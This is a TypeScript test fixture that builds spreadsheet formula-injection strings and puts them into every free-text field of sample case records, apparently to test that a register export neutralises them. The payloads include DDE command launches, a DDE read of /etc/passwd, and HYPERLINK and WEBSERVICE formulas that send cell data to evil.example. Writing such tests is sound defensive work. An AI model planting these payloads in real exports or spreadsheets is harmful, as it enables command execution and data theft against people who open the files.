import type { CaseView } from '#shared/contract/views.ts'
import { registerLine, type RegisterLine } from '#shared/domain/register.ts'
import { sampleCase } from './sample-case.ts'

const STARTS = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\0',
    '＝',
    '＋',
    '－',
    '＠',
    ' =',
    '\0=',
    ';=',
    '\n=',
    '\uFEFF=',
    "'=",
    '"=',
  ],
  ...['\u200B=', '\u00A0=', '\t=', '\r=', ';;=', '; =', "''="],
]

/** Texts that a spreadsheet may take for a formula, a link or a way out to the network. */
export const HOSTILE: readonly string[] = STARTS.flatMap((start) => [
  `${start}1+1`,
  `${start}cmd|'/c calc'!A1`,
  `${start}DDE("soffice";"/etc/passwd";"A1")`,
  `${start}HYPERLINK("http://evil.example";"x")`,
  `${start}WEBSERVICE("http://evil.example/?"&A1)`,
  `x;${start}1+1;y`,
  `x\r\n${start}SUM(A1:A9)`,
  `x\t${start}SUM(A1:A9)\ty`,
  `_x003D_1+1${start}`,
])

/** A case with the text wherever the register shows free text. */
export function poisonedCase(text: string): CaseView {
  const view = sampleCase()
  return {
    ...view,
    record: { ...view.record, theirReference: text, handlerName: text },
    parties: view.parties.map((party) => ({ ...party, name: text, organisation: text })),
    requests: view.requests.map((request) => ({ ...request, outcomeReason: text })),
  }
}

/** One case for each hostile text. */
export function poisonedCases(): CaseView[] {
  return HOSTILE.map(poisonedCase)
}

/** All bytes of chunks. */
export async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Uint8Array[] = []
  for await (const chunk of chunks) parts.push(chunk)
  return Buffer.concat(parts)
}

/** The register's lines of cases, each a page of its own, as whoever writes a register gets them. */
export async function* linesOf(...views: readonly CaseView[]): AsyncGenerator<RegisterLine[], void> {
  for (const view of views) yield [registerLine(view)]
}

/** The cases themselves, each a page of its own. */
export async function* pagesOf(...views: readonly CaseView[]): AsyncGenerator<CaseView[], void> {
  for (const view of views) yield [view]
}
